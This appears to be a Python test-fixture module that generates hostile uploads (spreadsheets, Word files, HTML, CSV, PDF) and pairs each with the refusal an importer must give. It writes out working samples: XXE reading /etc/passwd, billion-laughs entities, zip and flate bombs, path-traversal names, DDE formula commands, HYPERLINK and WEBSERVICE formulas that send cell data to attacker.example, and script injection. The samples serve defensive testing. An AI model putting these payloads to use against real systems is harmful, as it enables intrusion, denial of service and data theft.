"""A corpus of hostile uploads, generated here rather than kept as files.

Each :class:`Case` is a file a plan manager might upload by mistake or an attacker on
purpose: the tiny spreadsheets that declare a cell at the far corner or a million merged
cells, zip and flate bombs, entity expansion and external entities in every XML part,
nested spans, damaged and truncated files, wrong extensions, encrypted files, polyglots,
hostile file names, formula cells, script in cells, and text in odd encodings.

``expect`` is either :data:`IMPORTS` (the file is a plan and must be read correctly) or a
phrase the refusal must contain. Used by ``test_hostile_corpus.py`` and ``bench/hostile.py``.
"""

from __future__ import annotations

import codecs
import gzip
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from lineofsight.importing.tests import builders

IMPORTS = "imports"


@dataclass(frozen=True)
class Case:
    """One hostile upload: how to make it, its name, and what must happen."""

    id: str
    filename: str
    make: Callable[[], bytes]
    expect: str


# --------------------------------------------------------------------------- zip helpers


@cache
def xlsx() -> bytes:
    return builders.example_xlsx()


@cache
def docx() -> bytes:
    return builders.example_docx()


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def rezip(members: dict[str, bytes | Iterator[bytes]], *, stored: bool = False) -> bytes:
    """A zip of ``members``; an iterator member is streamed, so a large part never sits
    in memory whole."""
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", compression=method) as zf:
        for name, body in members.items():
            if isinstance(body, bytes):
                zf.writestr(name, body)
            else:
                info = zipfile.ZipInfo(name)
                info.compress_type = method
                with zf.open(info, "w", force_zip64=True) as part:
                    for chunk in body:
                        part.write(chunk)
    return out.getvalue()


def replace_part(data: bytes, name: str, body: bytes | Iterator[bytes]) -> bytes:
    members: dict[str, bytes | Iterator[bytes]] = dict(parts(data))
    members[name] = body
    return rezip(members)


def _central_entries(data: bytes) -> Iterator[int]:
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        yield pos
        pos = data.find(b"PK\x01\x02", pos + 4)


def forge_central(data: bytes, *, flag: int = 0, size: int | None = None) -> bytes:
    """Rewrite every central-directory entry: OR in ``flag`` bits, claim ``size`` bytes."""
    buf = bytearray(data)
    for pos in _central_entries(data):
        if flag:
            (bits,) = struct.unpack_from("<H", buf, pos + 8)
            struct.pack_into("<H", buf, pos + 8, bits | flag)
        if size is not None:
            struct.pack_into("<I", buf, pos + 24, size)
    return bytes(buf)


SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
WORD_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def sheet_xml(sheet_data: str | Iterator[str], *, after: str = "", dimension: str = "A1") -> Iterator[bytes]:
    yield f'<?xml version="1.0" encoding="UTF-8"?><worksheet {SHEET_NS}><dimension ref="{dimension}"/><sheetData>'.encode()
    if isinstance(sheet_data, str):
        yield sheet_data.encode()
    else:
        for chunk in sheet_data:
            yield chunk.encode()
    yield f"</sheetData>{after}</worksheet>".encode()


def with_sheet(sheet_data: str | Iterator[str], *, after: str = "", dimension: str = "A1") -> bytes:
    return replace_part(xlsx(), "xl/worksheets/sheet1.xml", sheet_xml(sheet_data, after=after, dimension=dimension))


def word_document(body: str) -> bytes:
    xml = f'<?xml version="1.0" encoding="UTF-8"?><w:document {WORD_NS}><w:body>{body}</w:body></w:document>'
    return replace_part(docx(), "word/document.xml", xml.encode())


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{k} "{("&lol%s;" % ("" if k == 1 else k - 1)) * 10}">' for k in range(1, 10))
    + "]>"
)
EXTERNAL = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def with_dtd(data: bytes, name: str, dtd: str) -> bytes:
    body = parts(data)[name]
    decl = re.match(rb"<\?xml[^>]*\?>\s*", body)
    cut = decl.end() if decl else 0
    return replace_part(data, name, body[:cut] + dtd.encode() + body[cut:])


# --------------------------------------------------------------------------- workbooks


def far_corner() -> bytes:
    """9.7 KB in the wild: a workbook whose one cell sits at XFD1048576."""
    return with_sheet('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')


def far_column() -> bytes:
    return with_sheet('<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>')


def cells_without_refs() -> bytes:
    """Cells may omit r=; their positions still count."""
    return with_sheet("<row>" + "<c><v>1</v></c>" * 300 + "</row>")


def huge_merge() -> bytes:
    return with_sheet(
        '<row r="1"><c r="A1"><v>1</v></c></row>',
        after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    )


def many_merges() -> bytes:
    refs = "".join(f'<mergeCell ref="A{r}:B{r}"/>' for r in range(1, 6002))
    return with_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', after=f"<mergeCells>{refs}</mergeCells>")


def wide_merges() -> bytes:
    """Ranges each inside the limits, together covering a million cells."""
    refs = "".join(f'<mergeCell ref="A{r * 2000 + 1}:CV{r * 2000 + 2000}"/>' for r in range(5))
    return with_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', after=f"<mergeCells>{refs}</mergeCells>")


def many_sheets() -> bytes:
    """190 sheets (the probe's were 1 MB each; the count alone is refused)."""
    members = parts(xlsx())
    sheets = "".join(f'<sheet name="S{k}" sheetId="{k}" r:id="rId{k}"/>' for k in range(1, 191))
    members["xl/workbook.xml"] = (
        f'<workbook {SHEET_NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f"<sheets>{sheets}</sheets></workbook>"
    ).encode()
    for k in range(3, 191):
        members[f"xl/worksheets/sheet{k}.xml"] = members["xl/worksheets/sheet2.xml"]
    return rezip(dict(members))


def _rows(n: int, cols: int = 5) -> Iterator[str]:
    letters = "ABCDEFGHIJ"
    for r in range(1, n + 1):
        yield f'<row r="{r}">' + "".join(f'<c r="{letters[c]}{r}"><v>{r}</v></c>' for c in range(cols)) + "</row>"


def tall_sheet() -> bytes:
    """30,000 real rows: past the row limit, found while streaming the first 20,000."""
    return with_sheet(_rows(30_000))


def expanding_sheet() -> bytes:
    """A 26 MB sheet part in a file of a few hundred kilobytes (the probe's was 150 MB in 18.7 MB)."""
    row = '<row><c t="inlineStr"><is><t>' + "x" * 200 + "</t></is></c></row>"
    return with_sheet(row * 1000 for _ in range(120))


def many_cells() -> bytes:
    """Four sheets of 60,000 cells: each within the extent limit, together past the cell limit."""
    members: dict[str, bytes | Iterator[bytes]] = dict(parts(xlsx()))
    members["xl/worksheets/sheet1.xml"] = b"".join(sheet_xml(_wide_rows(300)))
    members["xl/worksheets/sheet2.xml"] = members["xl/worksheets/sheet1.xml"]
    for k in (3, 4):
        members[f"xl/worksheets/sheet{k}.xml"] = members["xl/worksheets/sheet1.xml"]
    return rezip(members)


def _wide_rows(n: int) -> Iterator[str]:
    for r in range(1, n + 1):
        yield f'<row r="{r}">' + "<c><v>7</v></c>" * 200 + "</row>"


def zip_bomb() -> bytes:
    zeros = (b"\x00" * (1024 * 1024) for _ in range(24))
    return replace_part(xlsx(), "xl/worksheets/sheet1.xml", zeros)


def lying_sizes() -> bytes:
    """The central directory claims 24 MB for each small part: refused without inflating."""
    return forge_central(xlsx(), size=24 * 1024 * 1024)


def too_many_parts() -> bytes:
    members: dict[str, bytes | Iterator[bytes]] = dict(parts(xlsx()))
    members.update({f"xl/media/image{k}.bin": b"x" for k in range(2100)})
    return rezip(members, stored=True)


def traversal_member() -> bytes:
    members: dict[str, bytes | Iterator[bytes]] = dict(parts(xlsx()))
    members["../../../../tmp/evil.xml"] = b"<x/>"
    return rezip(members)


def encrypted_zip() -> bytes:
    return forge_central(xlsx(), flag=0x1)


def formula_cells() -> bytes:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(xlsx()))
    ws = wb["Action plan"]
    ws["H3"] = "Check"
    ws["H4"] = "=1+1"
    ws["H5"] = "=cmd|' /C calc'!A0"
    ws["H6"] = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    ws["F6"] = '=WEBSERVICE("http://attacker.example/")'
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def damaged_sheet() -> bytes:
    return replace_part(xlsx(), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c>")


def bad_crc() -> bytes:
    """One byte of a compressed part flipped: the zip's checksum no longer matches."""
    data = bytearray(xlsx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0xFF
    return bytes(data)


# --------------------------------------------------------------------------- word


def _tc(inner: str) -> str:
    return f"<w:tc>{inner}<w:p/></w:tc>"


def nested_tables(depth: int) -> bytes:
    inner = "<w:p><w:r><w:t>deep</w:t></w:r></w:p>"
    for _ in range(depth):
        inner = f"<w:tbl><w:tr>{_tc(inner)}</w:tr></w:tbl>"
    return word_document(inner)


def deep_elements() -> bytes:
    inner = "<w:r><w:t>deep</w:t></w:r>"
    for _ in range(200):
        inner = f"<w:sdt><w:sdtContent>{inner}</w:sdtContent></w:sdt>"
    return word_document(f"<w:p>{inner}</w:p>")


def wide_span() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="100000"/></w:tcPr><w:p/></w:tc>'
    return word_document(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>")


def many_word_cells() -> bytes:
    """210,000 cells of differing text (so the part does not look like a zip bomb)."""
    rows = (
        "<w:tr>"
        + "".join(f"<w:tc><w:p><w:r><w:t>{(r * 100 + c) * 7919 % 999983}</w:t></w:r></w:p></w:tc>" for c in range(100))
        + "</w:tr>"
        for r in range(2100)
    )
    return word_document("<w:tbl>" + "".join(rows) + "</w:tbl>")


def many_word_rows() -> bytes:
    return word_document("<w:tbl>" + "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 20_500 + "</w:tbl>")


OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # the container of old .doc/.xls and encrypted Office files


def ole_encrypted() -> bytes:
    return OLE_MAGIC + b"\x00" * 64 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 64


# --------------------------------------------------------------------------- html and text


def html_spans() -> bytes:
    """The probe's 74 KB page: cells spanning 50 x 50 each, under nested tables."""
    cell = '<td rowspan="1000" colspan="1000"><table><tr><td rowspan="9">x</td></tr></table></td>'
    rows = "".join(f"<tr>{cell * 20}</tr>" for _ in range(50))
    return f"<html><body><table>{rows}</table></body></html>".encode()


def html_nested_tables() -> bytes:
    inner = "Recommendation"
    for _ in range(50):
        inner = f'<table><tr><td rowspan="3" colspan="3">{inner}</td></tr></table>'
    return f"<html><body>{inner}</body></html>".encode()


def html_deep() -> bytes:
    return ("<html><body><table><tr><td>" + "<div>" * 5000 + "x" + "</div>" * 5000 + "</td></tr></table>").encode()


def html_many_elements() -> bytes:
    return ("<html><body><table><tr><td>" + "<b></b>" * 600_000 + "</td></tr></table></body></html>").encode()


def html_script() -> bytes:
    page = builders.EXAMPLE_HTML.replace(
        "<p>Partners do not recognise neglect early enough.</p>",
        "<p>Partners do not recognise neglect early enough.<script>alert(document.cookie)</script></p>"
        '<img src=x onerror="alert(1)"><style>body{display:none}</style>',
    )
    page = page.replace(
        "Launch the neglect toolkit", "Launch the neglect toolkit<iframe src=javascript:alert(2)></iframe>"
    )
    return page.encode()


def html_entities() -> bytes:
    return (LAUGHS + builders.EXAMPLE_HTML.replace("Head of Early Help", "Head of Early Help &lol9;")).encode()


def markdown_tall() -> bytes:
    lines = ["| Ref | Action | Owner | By when |", "|---|---|---|---|"]
    lines += [f"| {k} | Do {k} | Lead | May 2026 |" for k in range(25_000)]
    return "\n".join(lines).encode()


def csv_text() -> str:
    return builders.example_csv().decode("cp1252")


def csv_tall() -> bytes:
    return ("Ref,Action,Owner,By when\n" + "".join(f"{k},Do {k},Lead,May 2026\n" for k in range(25_000))).encode()


def csv_wide() -> bytes:
    return (",".join(f"Column {k}" for k in range(300)) + "\n" + ",".join("x" * 300) + "\n").encode()


def csv_huge_field() -> bytes:
    return ('Ref,Action,Owner\n1,"' + "x" * 200_000 + '",Lead\n').encode()


def csv_formulas() -> bytes:
    return (
        b"Ref,Recommendation,Action,Lead,Timescale\n"
        b'1,Plans are weak.,"=HYPERLINK(""http://attacker.example"",""Write better plans"")",Head of Service,May 2026\n'
        b",,@SUM(1+1) Audit plans monthly,+cmd|' /C calc'!A0,June 2026\n"
    )


def tsv_wide() -> bytes:
    return ("\t".join(["x"] * 300) + "\n").encode()


def random_binary() -> bytes:
    import random

    rng = random.Random(17)  # noqa: S311 - test data, not a secret
    return bytes(rng.randrange(256) for _ in range(4096))


def pdf_bytes(pages: int = 1, *, encrypt: bool = False) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if encrypt:
        writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_user_password() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="open-sesame", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def flate_bomb() -> bytes:
    squeeze = zlib.compressobj(9)
    body = b"".join(squeeze.compress(b"\x00" * (1024 * 1024)) for _ in range(120)) + squeeze.flush()
    obj = b"4 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream\nendobj\n"
    base = pdf_bytes()
    cut = base.rfind(b"xref")
    return base[:cut] + obj + base[cut:]


def polyglot_pdf_zip() -> bytes:
    return pdf_bytes() + xlsx()


def polyglot_gif_zip() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + xlsx()


def polyglot_html_zip() -> bytes:
    return builders.EXAMPLE_HTML.encode() + b"\n<!--" + docx()


def utf16(encoding: str, *, bom: bool) -> Callable[[], bytes]:
    marks = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-32-le": codecs.BOM_UTF32_LE}
    return lambda: (marks[encoding] if bom else b"") + csv_text().encode(encoding)


# --------------------------------------------------------------------------- the corpus

XLSX_PARTS = sorted(parts(builders.example_xlsx()))
DOCX_PARTS = sorted(n for n in parts(builders.example_docx()) if n.endswith((".xml", ".rels")))

LIMIT_ROWS = "the limit is 20,000 rows"
DTD = "declares a DTD or entities"

CASES: list[Case] = [
    # Workbooks that declare more than they hold.
    Case("far-corner-cell", "tracker.xlsx", far_corner, "row 1,048,576 is used; " + LIMIT_ROWS),
    Case("far-column-cell", "tracker.xlsx", far_column, "column 16,384 is used; the limit is 200 columns"),
    Case("cells-without-refs", "tracker.xlsx", cells_without_refs, "column 201 is used"),
    Case("declared-dimension-only", "tracker.xlsx", lambda: with_dimension(), IMPORTS),
    Case("huge-merged-range", "tracker.xlsx", huge_merge, "merged range A1:XFD1048576 reaches past the limit"),
    Case("many-merged-ranges", "tracker.xlsx", many_merges, "more than 5,000 merged ranges"),
    Case("merged-cells-total", "tracker.xlsx", wide_merges, "merged ranges cover more than 200,000 cells"),
    Case("190-sheets", "tracker.xlsx", many_sheets, "the workbook has 190 sheets; the limit is 50"),
    Case("tall-sheet", "tracker.xlsx", tall_sheet, "row 20,001 is used; " + LIMIT_ROWS),
    Case("expanding-sheet", "tracker.xlsx", expanding_sheet, "the limit for one part is 25 MB"),
    Case("cells-across-sheets", "tracker.xlsx", many_cells, "the workbook holds more than 200,000 cells"),
    Case("zip-bomb", "tracker.xlsx", zip_bomb, "a possible zip bomb"),
    Case("lying-central-directory", "tracker.xlsx", lying_sizes, "is compressed suspiciously far"),
    Case("too-many-parts", "tracker.xlsx", too_many_parts, "the archive holds 2,110 parts; the limit is 2,000"),
    Case("traversal-member", "tracker.xlsx", traversal_member, "has a path outside the archive"),
    Case("encrypted-zip", "tracker.xlsx", encrypted_zip, "the file is password-protected"),
    Case("formula-cells", "tracker.xlsx", formula_cells, IMPORTS),
    Case("damaged-sheet-xml", "tracker.xlsx", damaged_sheet, "sheet sheet1: the sheet is damaged"),
    Case("bad-crc", "tracker.xlsx", bad_crc, "damaged"),
    Case("truncated-xlsx", "tracker.xlsx", lambda: xlsx()[: len(xlsx()) // 2], "damaged zip archive"),
    Case("xlsx-named-csv", "tracker.csv", xlsx, IMPORTS),
    Case("traversal-file-name", "../../../etc/cron.d/tracker.xlsx", xlsx, IMPORTS),
    Case("control-chars-file-name", "plan\r\nSet-Cookie: x=1.xlsx", xlsx, IMPORTS),
    # Word documents.
    Case("nested-tables-docx", "plan.docx", lambda: nested_tables(12), "tables are nested more than 8 deep"),
    Case("deep-elements-docx", "plan.docx", deep_elements, "nested more than 64 deep"),
    Case("grid-span-docx", "plan.docx", wide_span, "a table cell spans 100000 columns; the limit is 200"),
    Case("many-cells-docx", "plan.docx", many_word_cells, "the document's tables hold more than 200,000 cells"),
    Case("many-rows-docx", "plan.docx", many_word_rows, "a table has more than 20,000 rows"),
    Case("truncated-docx", "plan.docx", lambda: docx()[:5000], "damaged zip archive"),
    Case(
        "damaged-document-xml",
        "plan.docx",
        lambda: replace_part(docx(), "word/document.xml", b"<w:document"),
        "damaged",
    ),
    Case("docx-named-pdf", "plan.pdf", docx, IMPORTS),
    Case("encrypted-office", "plan.docx", ole_encrypted, "password-protected"),
    Case("old-word-format", "plan.doc", lambda: ole_encrypted()[:8] + b"\x00" * 512, "save it as .docx or .xlsx"),
    # HTML and Markdown.
    Case("html-nested-spans", "plan.html", html_spans, "would expand into more than 200,000 cells"),
    Case("html-nested-tables", "plan.html", html_nested_tables, "tables are nested more than 8 deep"),
    Case("html-deep-elements", "plan.html", html_deep, "nested more than 64 deep"),
    Case("html-many-elements", "plan.html", html_many_elements, "more than 500,000 elements"),
    Case("html-script-in-cells", "plan.html", html_script, IMPORTS),
    Case("html-billion-laughs", "plan.html", html_entities, IMPORTS),
    Case("markdown-tall", "plan.md", markdown_tall, "lines; " + LIMIT_ROWS),
    Case("html-named-csv", "plan.csv", lambda: builders.EXAMPLE_HTML.encode(), IMPORTS),
    # Text, CSV and encodings.
    Case("utf16-le-bom-csv", "plan.csv", utf16("utf-16-le", bom=True), IMPORTS),
    Case("utf16-le-csv", "plan.csv", utf16("utf-16-le", bom=False), IMPORTS),
    Case("utf16-be-bom-csv", "plan.csv", utf16("utf-16-be", bom=True), IMPORTS),
    Case("utf32-le-bom-csv", "plan.csv", utf16("utf-32-le", bom=True), IMPORTS),
    Case("utf8-bom-csv", "plan.csv", lambda: codecs.BOM_UTF8 + csv_text().encode("utf-8"), IMPORTS),
    Case("cp1252-csv", "plan.csv", builders.example_csv, IMPORTS),
    Case(
        "broken-utf16", "plan.csv", lambda: codecs.BOM_UTF16_LE + b"R\x00e\x00\x00\xd8c\x00", "is not valid utf-16-le"
    ),
    Case("csv-tall", "plan.csv", csv_tall, "lines; " + LIMIT_ROWS),
    Case("csv-wide", "plan.csv", csv_wide, "row 1 has 300 columns; the limit is 200"),
    Case("csv-huge-field", "plan.csv", csv_huge_field, "the CSV cannot be read (field larger than field limit"),
    Case("csv-formulas", "plan.csv", csv_formulas, IMPORTS),
    Case("tsv-wide", "plan.txt", tsv_wide, "a line has 300 tab-separated columns; the limit is 200"),
    Case("random-binary", "plan.csv", random_binary, "the file is binary, not text"),
    Case("png-named-xlsx", "plan.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "this is a PNG image"),
    Case("exe-named-docx", "plan.docx", lambda: b"MZ\x90\x00" + b"\x00" * 200, "this is a Windows program"),
    Case("gzip-named-csv", "plan.csv", lambda: gzip.compress(b"a,b\n1,2\n"), "gzip archive"),
    Case("empty-file", "plan.csv", lambda: b"", "the file is empty"),
    # PDF.
    Case("encrypted-pdf-aes", "plan.pdf", lambda: pdf_bytes(encrypt=True), "the PDF is encrypted"),
    Case("encrypted-pdf-password", "plan.pdf", pdf_user_password, "the PDF is encrypted"),
    Case("pdf-too-many-pages", "plan.pdf", lambda: pdf_bytes(150), "the PDF has 150 pages; the limit is 100"),
    Case("pdf-flate-bomb", "plan.pdf", flate_bomb, "a possible flate bomb"),
    Case("truncated-pdf", "plan.pdf", lambda: pdf_bytes()[:300], "the PDF is damaged"),
    # Polyglots.
    Case("polyglot-pdf-zip", "plan.pdf", polyglot_pdf_zip, "no table was found in the PDF"),
    Case("polyglot-gif-zip", "plan.xlsx", polyglot_gif_zip, "this is a GIF image"),
    Case("polyglot-html-docx", "plan.html", polyglot_html_zip, "the file is binary, not text"),
]

# Entity expansion and external entities in every XML part of both Office formats.
CASES += [
    Case(f"billion-laughs-xlsx-{name}", "tracker.xlsx", lambda name=name: with_dtd(xlsx(), name, LAUGHS), DTD)
    for name in XLSX_PARTS
]
CASES += [
    Case(f"billion-laughs-docx-{name}", "plan.docx", lambda name=name: with_dtd(docx(), name, LAUGHS), DTD)
    for name in DOCX_PARTS
]
CASES += [
    Case("external-entity-sheet", "tracker.xlsx", lambda: with_dtd(xlsx(), "xl/worksheets/sheet1.xml", EXTERNAL), DTD),
    Case("external-entity-document", "plan.docx", lambda: with_dtd(docx(), "word/document.xml", EXTERNAL), DTD),
]


def with_dimension() -> bytes:
    """A real plan whose sheet declares the whole grid as its dimension: only the cells count."""
    body = parts(xlsx())["xl/worksheets/sheet1.xml"].replace(
        b'<dimension ref="A1:G6"/>', b'<dimension ref="A1:XFD1048576"/>'
    )
    return replace_part(xlsx(), "xl/worksheets/sheet1.xml", body)
